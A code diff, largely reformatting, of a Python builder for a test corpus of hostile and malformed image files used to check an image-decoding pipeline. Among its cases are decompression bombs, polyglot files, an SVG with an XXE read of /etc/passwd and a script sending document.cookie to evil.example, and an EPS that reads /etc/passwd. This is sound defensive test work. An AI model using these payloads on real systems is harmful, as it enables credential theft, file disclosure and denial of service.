@@ -13,8 +13,8 @@ import io
 import struct
 import zipfile
 import zlib
+from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Callable
 
 import numpy as np
 from PIL import Image
@@ -40,6 +40,7 @@ class Case:
 
 
 # --- building blocks -----------------------------------------------------------------------------------
+
 
 def quadrants(size: tuple[int, int] = (64, 48)) -> Image.Image:
     """Red top-left quadrant, green elsewhere: shows orientation and colour after decoding."""
@@ -77,8 +78,12 @@ def png_chunk(kind: bytes, data: bytes) -> bytes:
 def png_header_only(width: int, height: int, bit_depth: int = 1, colour_type: int = 0) -> bytes:
     """A tiny PNG that claims ``width`` x ``height``: a decompression bomb as the decoder first sees it."""
     ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
-            + png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", ihdr)
+        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
+        + png_chunk(b"IEND", b"")
+    )
 
 
 def png_with_chunks(img: Image.Image, extra: list[tuple[bytes, bytes]]) -> bytes:
@@ -105,9 +110,9 @@ def jpeg_sof_dimensions(jpeg: bytes, width: int, height: int) -> bytes:
     i = 2
     while i < len(data) - 9:
         marker = data[i + 1]
-        length = struct.unpack(">H", data[i + 2:i + 4])[0]
+        length = struct.unpack(">H", data[i + 2 : i + 4])[0]
         if marker in (0xC0, 0xC1, 0xC2):
-            data[i + 5:i + 9] = struct.pack(">HH", height, width)
+            data[i + 5 : i + 9] = struct.pack(">HH", height, width)
             return bytes(data)
         i += 2 + length
     raise ValueError("no SOF marker")
@@ -128,10 +133,13 @@ def exif_bytes(orientation: int | None = None, secret: bool = False) -> bytes:
 
 
 def xmp_packet(payload: bytes = SECRET) -> bytes:
-    return (b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
-            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
-            b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,31.2N" exif:UserComment="'
-            + payload + b'"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
+    return (
+        b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
+        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,31.2N" exif:UserComment="'
+        + payload
+        + b'"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
+    )
 
 
 def iptc_app13(payload: bytes = SECRET) -> bytes:
@@ -153,20 +161,29 @@ def icc_profile_with(payload: bytes) -> bytes:
 def metadata_rich_jpeg(img: Image.Image | None = None) -> bytes:
     """A JPEG carrying ``SECRET`` in EXIF (with GPS), XMP, IPTC, an ICC profile, a comment and trailing data."""
     img = img or quadrants((96, 72))
-    base = encode(img, "JPEG", quality=92, exif=exif_bytes(secret=True), icc_profile=icc_profile_with(SECRET),
-                  comment=b"comment " + SECRET)
+    base = encode(
+        img,
+        "JPEG",
+        quality=92,
+        exif=exif_bytes(secret=True),
+        icc_profile=icc_profile_with(SECRET),
+        comment=b"comment " + SECRET,
+    )
     xmp = jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + xmp_packet())
     return jpeg_with_segments(base, [xmp, iptc_app13()]) + b"trailing " + SECRET
 
 
 def metadata_rich_png(img: Image.Image | None = None) -> bytes:
     img = img or quadrants((96, 72))
-    return png_with_chunks(img, [
-        (b"tEXt", b"Author\x00" + SECRET),
-        (b"zTXt", b"Comment\x00\x00" + zlib.compress(SECRET)),
-        (b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp_packet()),
-        (b"eXIf", exif_bytes(secret=True).removeprefix(b"Exif\x00\x00")),  # PNG keeps the bare TIFF structure
-    ])
+    return png_with_chunks(
+        img,
+        [
+            (b"tEXt", b"Author\x00" + SECRET),
+            (b"zTXt", b"Comment\x00\x00" + zlib.compress(SECRET)),
+            (b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp_packet()),
+            (b"eXIf", exif_bytes(secret=True).removeprefix(b"Exif\x00\x00")),  # PNG keeps the bare TIFF structure
+        ],
+    )
 
 
 def truncate(data: bytes, fraction: float) -> bytes:
@@ -196,16 +213,31 @@ def noise_photo(size=(160, 120), seed: int = 0) -> Image.Image:
 # --- the corpus ----------------------------------------------------------------------------------------
 
 # What each EXIF orientation does to an upright photo, so storing its inverse reads back upright.
-_ORIENT_INVERSE = {1: None, 2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180,
-                   4: Image.Transpose.FLIP_TOP_BOTTOM, 5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90,
-                   7: Image.Transpose.TRANSVERSE, 8: Image.Transpose.ROTATE_270}
+_ORIENT_INVERSE = {
+    1: None,
+    2: Image.Transpose.FLIP_LEFT_RIGHT,
+    3: Image.Transpose.ROTATE_180,
+    4: Image.Transpose.FLIP_TOP_BOTTOM,
+    5: Image.Transpose.TRANSPOSE,
+    6: Image.Transpose.ROTATE_90,
+    7: Image.Transpose.TRANSVERSE,
+    8: Image.Transpose.ROTATE_270,
+}
 
 
 def _valid() -> list[Case]:
     q = quadrants()
     out = [
         Case("plain-jpeg", "valid", encode(q, "JPEG", quality=95), ".jpg", "ok", (64, 48), upright),
-        Case("progressive-jpeg", "valid", encode(q, "JPEG", quality=95, progressive=True), ".jpg", "ok", (64, 48), upright),
+        Case(
+            "progressive-jpeg",
+            "valid",
+            encode(q, "JPEG", quality=95, progressive=True),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
         Case("plain-png", "valid", encode(q, "PNG"), ".png", "ok", (64, 48), upright),
         Case("lossy-webp", "valid", encode(q, "WEBP", quality=95), ".webp", "ok", (64, 48), upright),
         Case("lossless-webp", "valid", encode(q, "WEBP", lossless=True), ".webp", "ok", (64, 48), upright),
@@ -213,11 +245,27 @@ def _valid() -> list[Case]:
         Case("plain-bmp", "valid", encode(q, "BMP"), ".bmp", "ok", (64, 48), upright),
         Case("plain-tiff", "valid", encode(q, "TIFF"), ".tif", "ok", (64, 48), upright),
         Case("lzw-tiff", "valid", encode(q, "TIFF", compression="tiff_lzw"), ".tif", "ok", (64, 48), upright),
-        Case("one-pixel", "valid", encode(Image.new("RGB", (1, 1), BLUE), "PNG"), ".png", "ok", (1, 1), colour_is(BLUE)),
-        Case("wide-but-allowed", "valid", encode(Image.new("RGB", (400, 10), RED), "PNG"), ".png", "ok", (400, 10),
-             colour_is(RED)),
-        Case("large-1bit-png", "valid", encode(Image.new("1", (4000, 3000), 1), "PNG"), ".png", "ok", (4000, 3000),
-             colour_is(WHITE)),
+        Case(
+            "one-pixel", "valid", encode(Image.new("RGB", (1, 1), BLUE), "PNG"), ".png", "ok", (1, 1), colour_is(BLUE)
+        ),
+        Case(
+            "wide-but-allowed",
+            "valid",
+            encode(Image.new("RGB", (400, 10), RED), "PNG"),
+            ".png",
+            "ok",
+            (400, 10),
+            colour_is(RED),
+        ),
+        Case(
+            "large-1bit-png",
+            "valid",
+            encode(Image.new("1", (4000, 3000), 1), "PNG"),
+            ".png",
+            "ok",
+            (4000, 3000),
+            colour_is(WHITE),
+        ),
         Case("mislabelled-png-as-jpg", "valid", encode(q, "PNG"), ".jpg", "ok", (64, 48), upright),
     ]
     return out
@@ -236,16 +284,39 @@ def _odd_modes() -> list[Case]:
         Case("gray-jpeg", "odd mode", encode(q.convert("L"), "JPEG"), ".jpg", "ok", (64, 48)),
         Case("16bit-png", "odd mode", encode(gray16, "PNG"), ".png", "ok", (64, 48), spread),
         Case("16bit-tiff", "odd mode", encode(gray16, "TIFF"), ".tif", "ok", (64, 48), spread),
-        Case("float-tiff", "odd mode", encode(Image.fromarray(np.linspace(-1, 1, 64 * 48, dtype=np.float32)
-                                                                .reshape(48, 64)), "TIFF"), ".tif", "ok", (64, 48), spread),
+        Case(
+            "float-tiff",
+            "odd mode",
+            encode(Image.fromarray(np.linspace(-1, 1, 64 * 48, dtype=np.float32).reshape(48, 64)), "TIFF"),
+            ".tif",
+            "ok",
+            (64, 48),
+            spread,
+        ),
         Case("rgba-transparent-png", "odd mode", encode(rgba, "PNG"), ".png", "ok", (40, 30), colour_is(WHITE)),
         Case("la-png", "odd mode", encode(q.convert("LA"), "PNG"), ".png", "ok", (64, 48)),
-        Case("palette-transparency-png", "odd mode", encode(pal, "PNG", transparency=1), ".png", "ok", (40, 30),
-             colour_is(BLUE)),
-        Case("palette-transparent-gif", "odd mode", encode(pal, "GIF", transparency=0), ".gif", "ok", (40, 30),
-             colour_is(WHITE)),
+        Case(
+            "palette-transparency-png",
+            "odd mode",
+            encode(pal, "PNG", transparency=1),
+            ".png",
+            "ok",
+            (40, 30),
+            colour_is(BLUE),
+        ),
+        Case(
+            "palette-transparent-gif",
+            "odd mode",
+            encode(pal, "GIF", transparency=0),
+            ".gif",
+            "ok",
+            (40, 30),
+            colour_is(WHITE),
+        ),
         Case("1bit-png", "odd mode", encode(q.convert("1"), "PNG"), ".png", "ok", (64, 48)),
-        Case("rgba-webp", "odd mode", encode(q.convert("RGBA"), "WEBP", lossless=True), ".webp", "ok", (64, 48), upright),
+        Case(
+            "rgba-webp", "odd mode", encode(q.convert("RGBA"), "WEBP", lossless=True), ".webp", "ok", (64, 48), upright
+        ),
     ]
 
 
@@ -260,9 +331,15 @@ def _animated() -> list[Case]:
         Case("animated-gif", "animated", anim("GIF"), ".gif", "ok", (40, 30), first_is_red),
         Case("animated-webp", "animated", anim("WEBP", lossless=True), ".webp", "ok", (40, 30), first_is_red),
         Case("apng", "animated", anim("PNG"), ".png", "ok", (40, 30), first_is_red),
-        Case("many-frame-gif", "animated", encode(frames[0], "GIF", save_all=True,
-                                                  append_images=[frames[i % 3] for i in range(1, 400)], duration=10),
-             ".gif", "ok", (40, 30), first_is_red),
+        Case(
+            "many-frame-gif",
+            "animated",
+            encode(frames[0], "GIF", save_all=True, append_images=[frames[i % 3] for i in range(1, 400)], duration=10),
+            ".gif",
+            "ok",
+            (40, 30),
+            first_is_red,
+        ),
     ]
 
 
@@ -271,18 +348,65 @@ def _exif() -> list[Case]:
     cases = []
     for orientation, inverse in _ORIENT_INVERSE.items():
         stored = q.transpose(inverse) if inverse is not None else q
-        cases.append(Case(f"exif-orientation-{orientation}", "EXIF rotation",
-                          encode(stored, "JPEG", quality=95, exif=exif_bytes(orientation)), ".jpg", "ok", (64, 48),
-                          upright))
+        cases.append(
+            Case(
+                f"exif-orientation-{orientation}",
+                "EXIF rotation",
+                encode(stored, "JPEG", quality=95, exif=exif_bytes(orientation)),
+                ".jpg",
+                "ok",
+                (64, 48),
+                upright,
+            )
+        )
     base = encode(q, "JPEG", quality=95)
     cases += [
-        Case("exif-orientation-9", "EXIF rotation", encode(q, "JPEG", quality=95, exif=exif_bytes(9)), ".jpg", "ok",
-             (64, 48), upright),
-        Case("exif-garbage", "EXIF rotation", jpeg_with_segments(base, [jpeg_segment(0xE1, b"Exif\x00\x00" + bytes(
-            np.random.default_rng(3).integers(0, 256, 500, dtype=np.uint8)))]), ".jpg", "ok", (64, 48), upright),
-        Case("exif-ifd-loop", "EXIF rotation", jpeg_with_segments(base, [jpeg_segment(0xE1, b"Exif\x00\x00" +
-             b"II*\x00\x08\x00\x00\x00" + b"\x01\x00" + struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<I", 8))]),
-             ".jpg", "ok", (64, 48), upright),
+        Case(
+            "exif-orientation-9",
+            "EXIF rotation",
+            encode(q, "JPEG", quality=95, exif=exif_bytes(9)),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "exif-garbage",
+            "EXIF rotation",
+            jpeg_with_segments(
+                base,
+                [
+                    jpeg_segment(
+                        0xE1, b"Exif\x00\x00" + bytes(np.random.default_rng(3).integers(0, 256, 500, dtype=np.uint8))
+                    )
+                ],
+            ),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "exif-ifd-loop",
+            "EXIF rotation",
+            jpeg_with_segments(
+                base,
+                [
+                    jpeg_segment(
+                        0xE1,
+                        b"Exif\x00\x00"
+                        + b"II*\x00\x08\x00\x00\x00"
+                        + b"\x01\x00"
+                        + struct.pack("<HHII", 0x8769, 4, 1, 8)
+                        + struct.pack("<I", 8),
+                    )
+                ],
+            ),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
     ]
     return cases
 
@@ -294,31 +418,77 @@ def _metadata() -> list[Case]:
     return [
         Case("metadata-rich-jpeg", "metadata", metadata_rich_jpeg(q), ".jpg", "ok", (64, 48), upright),
         Case("metadata-rich-png", "metadata", metadata_rich_png(q), ".png", "ok", (64, 48), upright),
-        Case("max-size-exif", "oversized metadata", jpeg_with_segments(base, [jpeg_segment(0xE1, b"Exif\x00\x00" + big[:65520])]),
-             ".jpg", "ok", (64, 48), upright),
-        Case("100-app-segments", "oversized metadata",
-             jpeg_with_segments(base, [jpeg_segment(0xE0 + (i % 16), big) for i in range(100)]), ".jpg", "ok",
-             (64, 48), upright),
-        Case("huge-comment", "oversized metadata", jpeg_with_segments(base, [jpeg_segment(0xFE, big)] * 20), ".jpg",
-             "ok", (64, 48), upright),
-        Case("split-icc-2mb", "oversized metadata", encode(q, "JPEG", icc_profile=icc_profile_with(big * 30)), ".jpg",
-             "ok", (64, 48), upright),
-        Case("png-text-flood", "oversized metadata",
-             png_with_chunks(q, [(b"tEXt", b"k%d\x00" % i + big[:1000]) for i in range(2000)]), ".png", "ok",
-             (64, 48), upright),
-        Case("png-ztxt-bomb", "oversized metadata",
-             png_with_chunks(q, [(b"zTXt", b"bomb\x00\x00" + zlib.compress(bytes(20_000_000), 9))]), ".png"),
-        Case("png-iccp-bomb", "oversized metadata",
-             png_with_chunks(q, [(b"iCCP", b"icc\x00\x00" + zlib.compress(bytes(10_000_000), 9))]), ".png"),
+        Case(
+            "max-size-exif",
+            "oversized metadata",
+            jpeg_with_segments(base, [jpeg_segment(0xE1, b"Exif\x00\x00" + big[:65520])]),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "100-app-segments",
+            "oversized metadata",
+            jpeg_with_segments(base, [jpeg_segment(0xE0 + (i % 16), big) for i in range(100)]),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "huge-comment",
+            "oversized metadata",
+            jpeg_with_segments(base, [jpeg_segment(0xFE, big)] * 20),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "split-icc-2mb",
+            "oversized metadata",
+            encode(q, "JPEG", icc_profile=icc_profile_with(big * 30)),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "png-text-flood",
+            "oversized metadata",
+            png_with_chunks(q, [(b"tEXt", b"k%d\x00" % i + big[:1000]) for i in range(2000)]),
+            ".png",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "png-ztxt-bomb",
+            "oversized metadata",
+            png_with_chunks(q, [(b"zTXt", b"bomb\x00\x00" + zlib.compress(bytes(20_000_000), 9))]),
+            ".png",
+        ),
+        Case(
+            "png-iccp-bomb",
+            "oversized metadata",
+            png_with_chunks(q, [(b"iCCP", b"icc\x00\x00" + zlib.compress(bytes(10_000_000), 9))]),
+            ".png",
+        ),
     ]
 
 
 def _truncated() -> list[Case]:
     photo = noise_photo()
-    encoded = {"jpeg": (encode(photo, "JPEG", quality=90), ".jpg"), "png": (encode(photo, "PNG"), ".png"),
-               "webp": (encode(photo, "WEBP", quality=90), ".webp"), "gif": (encode(photo, "GIF"), ".gif"),
-               "tiff": (encode(photo, "TIFF"), ".tif"), "bmp": (encode(photo, "BMP"), ".bmp"),
-               "progressive-jpeg": (encode(photo, "JPEG", progressive=True), ".jpg")}
+    encoded = {
+        "jpeg": (encode(photo, "JPEG", quality=90), ".jpg"),
+        "png": (encode(photo, "PNG"), ".png"),
+        "webp": (encode(photo, "WEBP", quality=90), ".webp"),
+        "gif": (encode(photo, "GIF"), ".gif"),
+        "tiff": (encode(photo, "TIFF"), ".tif"),
+        "bmp": (encode(photo, "BMP"), ".bmp"),
+        "progressive-jpeg": (encode(photo, "JPEG", progressive=True), ".jpg"),
+    }
     cases = []
     for name, (data, suffix) in encoded.items():
         for fraction in (0.1, 0.5, 0.95):
@@ -331,11 +501,18 @@ def _truncated() -> list[Case]:
 
 def _corrupted() -> list[Case]:
     photo = noise_photo(seed=1)
-    formats = {"jpeg": (encode(photo, "JPEG"), ".jpg"), "png": (encode(photo, "PNG"), ".png"),
-               "webp": (encode(photo, "WEBP"), ".webp"), "gif": (encode(photo, "GIF"), ".gif"),
-               "tiff": (encode(photo, "TIFF", compression="tiff_lzw"), ".tif")}
-    cases = [Case(f"bitflips-{name}-{seed}", "corrupted", flip_bytes(data, seed), suffix, "either")
-             for name, (data, suffix) in formats.items() for seed in range(4)]
+    formats = {
+        "jpeg": (encode(photo, "JPEG"), ".jpg"),
+        "png": (encode(photo, "PNG"), ".png"),
+        "webp": (encode(photo, "WEBP"), ".webp"),
+        "gif": (encode(photo, "GIF"), ".gif"),
+        "tiff": (encode(photo, "TIFF", compression="tiff_lzw"), ".tif"),
+    }
+    cases = [
+        Case(f"bitflips-{name}-{seed}", "corrupted", flip_bytes(data, seed), suffix, "either")
+        for name, (data, suffix) in formats.items()
+        for seed in range(4)
+    ]
     png = encode(photo, "PNG")
     bad_crc = bytearray(png)
     bad_crc[29] ^= 0xFF  # inside IHDR's CRC
@@ -343,12 +520,23 @@ def _corrupted() -> list[Case]:
     cases += [
         Case("png-bad-crc", "corrupted", bytes(bad_crc), ".png"),
         Case("png-no-idat", "corrupted", png[:33] + png_chunk(b"IEND", b""), ".png"),
-        Case("jpeg-zeroed-huffman", "corrupted", jpeg.replace(b"\xff\xc4", b"\xff\xc4\x00\x03\x00", 1), ".jpg", "either"),
+        Case(
+            "jpeg-zeroed-huffman", "corrupted", jpeg.replace(b"\xff\xc4", b"\xff\xc4\x00\x03\x00", 1), ".jpg", "either"
+        ),
         Case("jpeg-zero-size-sof", "corrupted", jpeg_sof_dimensions(jpeg, 0, 0), ".jpg"),
-        Case("gif-bad-lzw-size", "corrupted", encode(photo, "GIF").replace(b"\x2c\x00\x00\x00\x00", b"\x2c\x00\x00\x00\x00", 1)[:-20]
-             + b"\x0f" * 20, ".gif", "either"),
-        Case("bmp-bogus-offset", "corrupted", encode(photo, "BMP")[:10] + struct.pack("<I", 0xFFFFFF00)
-             + encode(photo, "BMP")[14:], ".bmp"),
+        Case(
+            "gif-bad-lzw-size",
+            "corrupted",
+            encode(photo, "GIF").replace(b"\x2c\x00\x00\x00\x00", b"\x2c\x00\x00\x00\x00", 1)[:-20] + b"\x0f" * 20,
+            ".gif",
+            "either",
+        ),
+        Case(
+            "bmp-bogus-offset",
+            "corrupted",
+            encode(photo, "BMP")[:10] + struct.pack("<I", 0xFFFFFF00) + encode(photo, "BMP")[14:],
+            ".bmp",
+        ),
         Case("tiff-strip-offset-past-end", "corrupted", _tiff_bad_strip(), ".tif"),
         Case("tiff-ifd-cycle", "corrupted", _tiff_ifd_cycle(), ".tif", "either"),
     ]
@@ -356,30 +544,55 @@ def _corrupted() -> list[Case]:
 
 
 def _tiff_bad_strip() -> bytes:
-    entries = [(256, 3, 1, 64), (257, 3, 1, 48), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
-               (273, 4, 1, 0x7FFFFFF0), (277, 3, 1, 1), (278, 3, 1, 48), (279, 4, 1, 64 * 48)]
+    entries = [
+        (256, 3, 1, 64),
+        (257, 3, 1, 48),
+        (258, 3, 1, 8),
+        (259, 3, 1, 1),
+        (262, 3, 1, 1),
+        (273, 4, 1, 0x7FFFFFF0),
+        (277, 3, 1, 1),
+        (278, 3, 1, 48),
+        (279, 4, 1, 64 * 48),
+    ]
     ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 0)
     return b"II*\x00" + struct.pack("<I", 8) + ifd
 
 
 def _tiff_ifd_cycle() -> bytes:
-    entries = [(256, 3, 1, 4), (257, 3, 1, 4), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
-               (273, 4, 1, 8 + 2 + 9 * 12 + 4), (277, 3, 1, 1), (278, 3, 1, 4), (279, 4, 1, 16)]
+    entries = [
+        (256, 3, 1, 4),
+        (257, 3, 1, 4),
+        (258, 3, 1, 8),
+        (259, 3, 1, 1),
+        (262, 3, 1, 1),
+        (273, 4, 1, 8 + 2 + 9 * 12 + 4),
+        (277, 3, 1, 1),
+        (278, 3, 1, 4),
+        (279, 4, 1, 16),
+    ]
     ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 8)
     return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\x80" * 16  # next IFD points back at the first
 
 
 def _not_images() -> list[Case]:
     jpeg = encode(quadrants(), "JPEG")
-    svg = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-           b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">'
-           b'<script>fetch("http://evil.example/?"+document.cookie)</script><text>&xxe;</text></svg>')
-    eps = (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n%%EOF\n")
+    svg = (
+        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">'
+        b'<script>fetch("http://evil.example/?"+document.cookie)</script><text>&xxe;</text></svg>'
+    )
+    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(/etc/passwd) (r) file\nshowpage\n%%EOF\n"
     return [
         Case("zero-bytes", "not an image", b"", ".jpg"),
         Case("one-byte", "not an image", b"\xff", ".jpg"),
         Case("text-named-jpg", "not an image", b"just some notes, not a photo\n" * 10, ".jpg"),
-        Case("html-named-jpg", "not an image", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", ".jpg"),
+        Case(
+            "html-named-jpg",
+            "not an image",
+            b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
+            ".jpg",
+        ),
         Case("svg-named-png", "not an image", svg, ".png"),
         Case("svg-named-svg", "not an image", svg, ".svg"),
         Case("zip-named-jpg", "not an image", zip_bytes({"photo.jpg": jpeg}), ".jpg"),
@@ -387,14 +600,23 @@ def _not_images() -> list[Case]:
         Case("eps-named-jpg", "not an image", eps, ".jpg"),
         Case("elf-named-png", "not an image", b"\x7fELF\x02\x01\x01" + b"\0" * 200, ".png"),
         Case("json-named-jpg", "not an image", b'{"image": "data:image/jpeg;base64,/9j/"}', ".jpg"),
-        Case("random-bytes", "not an image", bytes(np.random.default_rng(9).integers(0, 256, 4096, dtype=np.uint8)), ".jpg"),
+        Case(
+            "random-bytes",
+            "not an image",
+            bytes(np.random.default_rng(9).integers(0, 256, 4096, dtype=np.uint8)),
+            ".jpg",
+        ),
         Case("all-0xff", "not an image", b"\xff" * 4096, ".jpg"),
         Case("ppm-disallowed", "not an image", encode(quadrants(), "PPM"), ".jpg"),
         Case("ico-disallowed", "not an image", encode(quadrants(), "ICO"), ".jpg"),
         Case("tga-disallowed", "not an image", encode(quadrants(), "TGA"), ".jpg"),
         Case("pcx-disallowed", "not an image", encode(quadrants(), "PCX"), ".jpg"),
-        Case("psd-header", "not an image", b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 48, 64, 8, 3) + b"\0" * 64,
-             ".jpg"),
+        Case(
+            "psd-header",
+            "not an image",
+            b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 48, 64, 8, 3) + b"\0" * 64,
+            ".jpg",
+        ),
     ]
 
 
@@ -414,16 +636,41 @@ def _bombs() -> list[Case]:
         Case("gif-screen-65535-square", "huge dimensions", bytes(gif), ".gif"),
         Case("webp-claims-16k-square", "huge dimensions", bytes(webp_vp8l), ".webp"),
         Case("tiff-claims-100k-square", "huge dimensions", _tiff_huge(), ".tif"),
-        Case("bmp-claims-30k-square", "huge dimensions", encode(Image.new("RGB", (2, 2)), "BMP")[:18]
-             + struct.pack("<ii", 30000, 30000) + encode(Image.new("RGB", (2, 2)), "BMP")[26:], ".bmp"),
-        Case("png-strip-1x20000", "huge dimensions", encode(Image.new("L", (1, 20000), 128), "PNG", optimize=True), ".png"),
-        Case("png-strip-20000x2", "huge dimensions", encode(Image.new("L", (20000, 2), 128), "PNG", optimize=True), ".png"),
+        Case(
+            "bmp-claims-30k-square",
+            "huge dimensions",
+            encode(Image.new("RGB", (2, 2)), "BMP")[:18]
+            + struct.pack("<ii", 30000, 30000)
+            + encode(Image.new("RGB", (2, 2)), "BMP")[26:],
+            ".bmp",
+        ),
+        Case(
+            "png-strip-1x20000",
+            "huge dimensions",
+            encode(Image.new("L", (1, 20000), 128), "PNG", optimize=True),
+            ".png",
+        ),
+        Case(
+            "png-strip-20000x2",
+            "huge dimensions",
+            encode(Image.new("L", (20000, 2), 128), "PNG", optimize=True),
+            ".png",
+        ),
     ]
 
 
 def _tiff_huge() -> bytes:
-    entries = [(256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
-               (273, 4, 1, 200), (277, 3, 1, 1), (278, 4, 1, 100_000), (279, 4, 1, 10**10 % 2**32)]
+    entries = [
+        (256, 4, 1, 100_000),
+        (257, 4, 1, 100_000),
+        (258, 3, 1, 8),
+        (259, 3, 1, 1),
+        (262, 3, 1, 1),
+        (273, 4, 1, 200),
+        (277, 3, 1, 1),
+        (278, 4, 1, 100_000),
+        (279, 4, 1, 10**10 % 2**32),
+    ]
     ifd = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", 0)
     return b"II*\x00" + struct.pack("<I", 8) + ifd + b"\0" * 100
 
@@ -435,13 +682,36 @@ def _polyglots() -> list[Case]:
     html = b"<html><body><script>alert(document.cookie)</script></body></html>"
     return [
         Case("jpeg-plus-zip", "polyglot", jpeg + zip_bytes({"evil.html": html}), ".jpg", "ok", (64, 48), upright),
-        Case("gifar", "polyglot", gif + zip_bytes({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}), ".gif", "ok",
-             (64, 48), upright),
-        Case("jpeg-html-comment", "polyglot", jpeg_with_segments(jpeg, [jpeg_segment(0xFE, html)]), ".jpg", "ok",
-             (64, 48), upright),
-        Case("png-html-text", "polyglot", png_with_chunks(q, [(b"tEXt", b"html\x00" + html)]), ".png", "ok", (64, 48),
-             upright),
-        Case("jpeg-then-pdf", "polyglot", jpeg + b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", ".jpg", "ok", (64, 48), upright),
+        Case(
+            "gifar",
+            "polyglot",
+            gif + zip_bytes({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"}),
+            ".gif",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "jpeg-html-comment",
+            "polyglot",
+            jpeg_with_segments(jpeg, [jpeg_segment(0xFE, html)]),
+            ".jpg",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "png-html-text",
+            "polyglot",
+            png_with_chunks(q, [(b"tEXt", b"html\x00" + html)]),
+            ".png",
+            "ok",
+            (64, 48),
+            upright,
+        ),
+        Case(
+            "jpeg-then-pdf", "polyglot", jpeg + b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", ".jpg", "ok", (64, 48), upright
+        ),
         Case("html-behind-jpeg-magic", "polyglot", b"\xff\xd8\xff\xe0" + html, ".jpg"),
         Case("svg-behind-png-magic", "polyglot", b"\x89PNG\r\n\x1a\n" + b"<svg onload='alert(1)'/>", ".png"),
         Case("zip-then-jpeg", "polyglot", zip_bytes({"a.txt": b"x"}) + jpeg, ".jpg"),
@@ -451,8 +721,18 @@ def _polyglots() -> list[Case]:
 @functools.lru_cache(maxsize=1)
 def build_corpus() -> tuple[Case, ...]:
     """Deterministic (seeded); built once per process (about a second)."""
-    cases = [*_valid(), *_odd_modes(), *_animated(), *_exif(), *_metadata(), *_truncated(), *_corrupted(),
-             *_not_images(), *_bombs(), *_polyglots()]
+    cases = [
+        *_valid(),
+        *_odd_modes(),
+        *_animated(),
+        *_exif(),
+        *_metadata(),
+        *_truncated(),
+        *_corrupted(),
+        *_not_images(),
+        *_bombs(),
+        *_polyglots(),
+    ]
     names = [c.name for c in cases]
     assert len(names) == len(set(names)), "case names must be unique"
     return tuple(cases)
